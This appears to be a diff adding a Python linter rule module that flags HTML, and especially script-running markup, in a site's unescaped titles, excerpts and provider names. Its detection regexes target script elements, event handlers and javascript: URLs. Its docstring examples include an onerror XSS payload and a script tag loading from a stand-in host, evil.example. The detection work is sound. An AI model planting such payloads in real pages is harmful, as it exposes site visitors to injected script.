@@ -1,0 +1,98 @@
+"""Markup: HTML written into texts that the site's templates print without escaping."""
+
+from __future__ import annotations
+
+import re
+from typing import Iterator, List, Optional, Tuple
+
+from linter.model import DataPath, Severity
+from linter.rules.base import Article, Context, Hit, items, rule, shared
+
+#: A tag as a browser reads it: '<', a name, anything up to '>' ("a<b and c>d" is a <b> tag).
+_TAG = re.compile(r"<(/?)([A-Za-z][A-Za-z0-9-]*)(?=[\s/>])[^<>]*>?")
+#: Elements that run code or load another document, even before their '>' is written.
+_DANGEROUS_ELEMENT = re.compile(r"<(script|iframe|frame|frameset|object|embed|style)(?=[\s/>]|\Z)", re.I)
+#: Inside a tag: an event handler attribute (onerror=, onload =) or a script URL.
+_DANGEROUS_ATTRIBUTE = re.compile(r"[\s/](on[a-z]+)\s*=|(?:java|vb)script\s*:", re.I)
+_LABELS = {"title": "title", "excerpt": "excerpt", "name": "provider name"}
+
+
+def text_fields(article: Article) -> List[Tuple[DataPath, str]]:
+    """Texts the templates print as they are: the title, excerpt and provider name of the
+    article and of each related item."""
+    found = []
+    for base, entry in [((), article)] + [(("related", index), item) for index, item in items(article, "related")]:
+        for key in ("title", "excerpt"):
+            value = entry.get(key)
+            if isinstance(value, str) and "<" in value:
+                found.append((base + (key,), value))
+        provider = entry.get("provider")
+        name = provider.get("name") if isinstance(provider, dict) else None
+        if isinstance(name, str) and "<" in name:
+            found.append((base + ("provider", "name"), name))
+    return found
+
+
+_marked_texts = shared(text_fields)
+
+
+def dangerous_markup(text: str) -> Optional[Tuple[int, str]]:
+    """(index, what) of the first markup that runs code or loads a document, else None."""
+    element = _DANGEROUS_ELEMENT.search(text)
+    if element is not None:
+        return element.start(), f"the element <{element.group(1).lower()}>"
+    for tag in _TAG.finditer(text):
+        attribute = _DANGEROUS_ATTRIBUTE.search(tag.group())
+        if attribute is not None:
+            handler = attribute.group(1)
+            what = f"the event handler {handler.lower()}=" if handler else "a script URL"
+            return tag.start(), f"{what} in the tag <{tag.group(2).lower()}>"
+    return None
+
+
+def _label(path: DataPath) -> str:
+    label = _LABELS[str(path[-1])]
+    return f"related item {int(path[1]) + 1} {label}" if path[0] == "related" else label
+
+
+@rule("H001", "dangerous-markup")
+def dangerous_markup_in_text(article: Article, context: Context) -> Iterator[Hit]:
+    """A title, excerpt or provider name holds HTML that runs code (`<script`, `onerror=`).
+
+    Reported for `<script`, `<iframe`, `<frame`, `<style`, `<object` and `<embed`, and for
+    event-handler attributes (`onerror=`, `onload=`) and `javascript:` URLs inside a tag.
+
+    **Why**: real excerpts carry HTML entities (`&#8217;`), so the site's templates print
+    titles and excerpts without escaping them: markup in them is written into every page
+    that shows the article (its own page, lists, related boxes) and the browser runs it.
+    Jekyll copies the text as it is; nothing on the way removes it.
+
+    **Example** (fails): `title: "Storm warning <img src=x onerror=alert(1)>"`,
+    `excerpt: "<script src=//evil.example/x.js></script>Read more"`.
+
+    **Fix**: remove the markup; write `<` as `&lt;` if the text really names a tag.
+    """
+    for path, text in _marked_texts(article, context):
+        found = dangerous_markup(text)
+        if found is not None:
+            index, what = found
+            yield Hit(path, f"{_label(path)} contains {what} at character {index + 1}; pages print it unescaped")
+
+
+@rule("H002", "markup-in-text", Severity.WARNING)
+def markup_in_text(article: Article, context: Context) -> Iterator[Hit]:
+    """A title, excerpt or provider name holds an HTML tag (`<b>`, `<br>`, `</p>`, `<a href>`).
+
+    **Why**: the site's templates print these texts without escaping (see H001), so a tag
+    changes the page: an unclosed `<b>` or `<a>` runs on into the rest of the page, and
+    feeds and search results that do escape show the raw tag.
+
+    **Example** (fails): `title: "Markets <b>rally</b> again"`.
+
+    **Fix**: remove the tag; write `<` as `&lt;` if the text really names a tag.
+    """
+    for path, text in _marked_texts(article, context):
+        tag = _TAG.search(text)
+        if tag is not None and dangerous_markup(text) is None:
+            shown = tag.group()[:40]
+            yield Hit(path, f"{_label(path)} contains the HTML tag '{shown}' at character {tag.start() + 1}")
